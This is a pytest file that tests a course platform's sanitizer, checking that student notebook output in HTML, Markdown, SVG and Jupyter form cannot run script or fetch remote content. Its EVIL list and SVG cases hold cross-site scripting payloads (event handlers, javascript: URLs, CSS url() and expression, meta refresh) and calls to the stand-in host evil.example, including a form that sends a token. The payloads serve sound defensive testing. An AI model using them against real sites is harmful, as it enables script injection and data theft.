"""Nothing that a student's code displays runs, fetches, or leaves its place on the page."""

import pytest
from bs4 import BeautifulSoup

from course.grading import safe
from course.network import Link, Network, Node

EVIL = [
    "<script>steal()</script>",
    "<img src=x onerror=steal()>",
    "<svg onload=steal()></svg>",
    "<iframe src='javascript:steal()'></iframe>",
    "<a href='javascript:steal()'>x</a>",
    "<a href=' &#106;avascript:steal()'>x</a>",
    "<form action='https://evil.example'><input name=token></form>",
    "<style>@import url(https://evil.example/steal.css)</style>",
    "<div style='background:url(https://evil.example/steal.png)'>x</div>",
    "<div style='width: expression(steal())'>x</div>",
    "<div style='background:u\\rl(https://evil.example/steal)'>x</div>",
    "<img src='https://evil.example/steal.png'>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9c3RlYWwoKT4='>",
    "<object data=steal.swf></object><embed src=steal><base href=//evil.example>",
    "<math><mtext><script>steal()</script></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=steal()>'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/steal'>",
    "<script>steal()",
]


@pytest.mark.parametrize("fragment", EVIL)
def test_html_loses_what_could_run_or_fetch(fragment):
    clean = safe.html(f"<b>mine</b>{fragment}")
    page = BeautifulSoup(clean, "html.parser")
    assert clean.startswith("<b>mine</b>")
    assert (
        page.find_all(
            ["script", "svg", "iframe", "form", "input", "style", "object", "embed", "base", "meta"]
        )
        == []
    )
    for tag in page.find_all(True):
        assert not [name for name in tag.attrs if name.startswith("on")]
        assert tag.get("src", "data:image/").startswith("data:image/")
        assert tag.get("href", "https:").startswith("https:")
        assert "url" not in tag.get("style", "")
        assert "expression" not in tag.get("style", "")


def test_pictures_inside_the_page_stay():
    for source in (
        "data:image/png;base64,iVBORw0KGgo=",
        "data:image/svg+xml;base64,PHN2Zy8+",
        "data:image/svg+xml,%3Csvg/%3E",
    ):
        assert safe.html(f'<img src="{source}" alt="반찬 가게">') == f'<img src="{source}" alt="반찬 가게">'


@pytest.mark.parametrize("fragment", EVIL)
def test_markdown_with_markup_is_cleaned_like_html(fragment):
    assert "<script" not in safe.markdown(f"**mine** {fragment}")
    assert "**mine**" in safe.markdown(f"**mine** {fragment}")


@pytest.mark.parametrize(
    "text", ["> quoted", "a < b & c > d", "$x < y$", "1. one\n2. two\n", "[a](https://example.org)"]
)
def test_markdown_without_markup_stays_letter_for_letter(text):
    assert safe.markdown(text) == text


def test_a_check_panel_looks_the_same_afterwards():
    from course.checks import Line, Result

    panel = Result(
        "역할", 1.5, 3, (Line("wrong", "매개자가 없어요."),), "역할을 켜세요.", ("먼저…",)
    )._repr_html_()
    clean = safe.html(panel)
    for part in ("display:flex", "border-radius", "background", "<details", "aria-label", 'role="img"'):
        assert part.replace(":", ": ") in clean or part in clean, part


@pytest.mark.parametrize(
    "inner",
    [
        "<script>steal()</script>",
        "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><script>steal()</script></body></foreignObject>",
        "<image href='https://evil.example/steal.png'/>",
        "<a href='javascript:steal()'><text>x</text></a>",
        "<set attributeName='onload' to='steal()'/>",
        "<animate attributeName='href' values='javascript:steal()'/>",
        "<style>@import 'https://evil.example/steal.css';</style>",
        "<g onclick='steal()'/>",
        "<use href='https://evil.example/steal.svg#a'/>",
        "<rect fill='url(https://evil.example/steal#a)'/>",
        "<x xmlns='urn:other'>steal</x>",
        "<handler xmlns='http://www.w3.org/2001/xml-events' type='text/javascript'>steal()</handler>",
    ],
)
def test_a_drawing_loses_everything_but_shapes_and_text(inner):
    clean = safe.svg(f'<svg xmlns="http://www.w3.org/2000/svg">{inner}<text>책방</text></svg>')
    assert "steal" not in clean
    assert "<text>책방</text>" in clean


def test_a_picture_that_declares_entities_is_not_shown():
    bomb = '<!DOCTYPE svg [<!ENTITY a "ha">]><svg xmlns="http://www.w3.org/2000/svg"><text>&a;</text></svg>'
    assert safe.svg(bomb) is None
    assert safe.svg("<svg>unclosed") is None
    assert safe.svg("<html/>") is None


def test_a_matplotlib_picture_may_have_a_doctype():
    text = '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x.dtd">\n<svg xmlns="http://www.w3.org/2000/svg"><g/></svg>'
    assert "<g" in safe.svg(text)


def test_our_own_drawings_come_through_unchanged():
    drawn = Network(
        [Node("n1", "</text><script>steal()</script>", roles=["buyer"]), Node("n2", '책방 & "서점"')],
        [Link("l1", "n1", "n2", "산다", "<책>", rate=0.5)],
    ).to_svg("ko")
    clean = safe.svg(drawn)
    assert clean.count("<path") == drawn.count("<path") > 0
    assert clean.count("style=") == drawn.count("style=")
    assert "&lt;/text&gt;&lt;script&gt;" in clean
    assert "<script" not in clean


def test_an_output_that_is_only_a_script_or_a_widget_is_left_out():
    for kind in ("application/javascript", "application/vnd.jupyter.widget-view+json", "text/x-mine"):
        assert safe.output({"output_type": "display_data", "data": {kind: "steal()"}, "metadata": {}}) is None


def test_a_picture_must_be_base64_and_metadata_go():
    item = {
        "output_type": "display_data",
        "data": {"image/png": 'x"><script>', "text/plain": "fig"},
        "metadata": {"image/png": {"width": '1"><script>steal()</script>'}},
    }
    clean = safe.output(item)
    assert clean["data"] == {"text/plain": "fig"}
    assert clean["metadata"] == {}
